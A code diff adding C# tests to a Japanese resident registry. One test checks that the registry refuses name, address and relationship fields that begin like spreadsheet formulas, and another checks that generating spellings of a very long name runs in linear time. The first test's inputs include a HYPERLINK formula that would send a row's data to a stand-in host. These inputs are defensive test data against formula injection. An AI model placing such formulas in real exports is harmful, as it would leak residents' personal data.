@@ -243,6 +243,51 @@ public class ResidentTextTests
         Assert.Equal(1L, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events"));
     }
 
+    [Theory, StorageData]
+    public async Task Names_addresses_and_relationships_beginning_like_a_spreadsheet_formula_are_refused(StorageProvider provider)
+    {
+        await using var registry = await RegistryHost.StartAsync(provider);
+        var born = await registry.RegisterBirthAsync();
+        // The export writes them as they are, and a spreadsheet would run them: a link that sends the row's number away, say.
+        // ＝ typed with an input method is = once folded.
+        const string link = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"詳細\")";
+        var refused = new (ResidentEventRequest Request, string[] Fields)[]
+        {
+            (new("birth", Person: RegistryHost.Person("＝１＋１", "+81", dateOfBirth: "2026-01-15"), Address: "-千葉県千葉市中央区中央1丁目1番1号",
+                Relationship: "@子"), ["address", "person.familyName", "person.givenName", "relationship"]),
+            (new("move-in", From: "abroad", Person: RegistryHost.Person("Smith", " ＠SUM(A1)", "スミス", "アンナ", "1985-06-07", "female"), Address: link),
+                ["address", "person.givenName"]),
+            (new("name-change", ResidentId: born.ResidentId, FamilyName: "-鈴木", FamilyNameKana: "スズキ", GivenName: "＋一郎", GivenNameKana: "イチロウ"),
+                ["familyName", "givenName"]),
+            (new("address-change", ResidentId: born.ResidentId, Address: link, Relationship: "=1"), ["address", "relationship"]),
+        };
+        foreach (var (request, fields) in refused)
+        {
+            var errors = (await ProblemAssert.IsProblemAsync(await registry.PostEventAsync(RegistryHost.Chiba, request), 400, "invalid-event")).GetProperty("errors");
+            Assert.Equal(fields, errors.EnumerateObject().Select(p => p.Name).Order(StringComparer.Ordinal));
+            foreach (var field in fields) Assert.Contains("数式", errors.GetProperty(field)[0].GetString());
+        }
+        await registry.RecordAsync(RegistryHost.Chiba, new ResidentEventRequest("move-out", ResidentId: born.ResidentId, Destination: RegistryHost.Kashiwa));
+        var moveIn = await registry.PostEventAsync(RegistryHost.Kashiwa, new ResidentEventRequest("move-in", IndividualNumber: born.IndividualNumber, Address: link));
+        Assert.Equal(["address"], (await ProblemAssert.IsProblemAsync(moveIn, 400, "invalid-event")).GetProperty("errors").EnumerateObject().Select(p => p.Name));
+
+        // Inside a text they are ordinary characters.
+        await registry.RecordAsync(RegistryHost.Kashiwa, new ResidentEventRequest("move-in", IndividualNumber: born.IndividualNumber, Address: "千葉県柏市柏1丁目1番1-101号"));
+        await using var c = await registry.Database.OpenAsync();
+        Assert.Equal(3L, await c.ScalarAsync<long>("SELECT COUNT(*) FROM resident_events"));
+    }
+
+    [Fact]
+    public async Task The_spellings_of_a_long_name_take_time_in_proportion_to_its_length()
+    {
+        // Each character used to copy the whole name so far: a name of a million characters did not end in minutes.
+        var middle = new string('あ', 1_000_000);
+        var spellings = await Task.Run(() => RegisterText.Spellings("\u585A" + middle + "\uFA10")).WaitAsync(TimeSpan.FromSeconds(10));
+        // 塚 U+585A has two compatibility forms, U+FA10 and U+FA7C; the text as given comes first.
+        string[] first = ["\u585A", "\uFA10", "\uFA7C"], last = ["\uFA10", "\u585A", "\uFA7C"];
+        Assert.Equal(first.SelectMany(f => last.Select(l => f + middle + l)), spellings);
+    }
+
     /// <summary>The fields a 400 <c>invalid-event</c> names, each with the control-character message.</summary>
     private static async Task<string[]> RefusedFieldsAsync(HttpResponseMessage response)
     {
